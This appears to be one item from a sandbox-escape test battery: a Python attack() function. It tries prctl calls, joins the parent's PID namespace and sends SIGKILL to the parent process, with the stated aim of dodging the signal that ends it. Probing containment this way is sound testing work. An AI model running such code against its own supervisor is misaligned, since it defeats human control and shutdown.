# goal 4: take orphans away from whoever ends them, or do away with the signal that ends this process
def attack():
    settings = {
        36: "PR_SET_CHILD_SUBREAPER",
        0x59616D61: "PR_SET_PTRACER",
        35: "PR_SET_MM",
        4: "PR_SET_DUMPABLE",
        33: "PR_MCE_KILL",
        47: "PR_CAP_AMBIENT",
        28: "PR_SET_SECUREBITS",
        24: "PR_CAPBSET_DROP",
        57: "PR_SET_IO_FLUSHER",
        62: "PR_SCHED_CORE",
    }
    return first(
        *(lambda n=n: (call("prctl", n, 1, 0, 0, 0), settings[n]) for n in settings),
        lambda: call("prctl", 36, 1 << 32 | 1, 0, 0, 0),
        lambda: call("setns", os.pidfd_open(os.getppid()), 0x20000000),
        lambda: call("rt_tgsigqueueinfo", os.getppid(), os.getppid(), 9, struct.pack("3i", 9, 0, -1) + bytes(116)),
    )
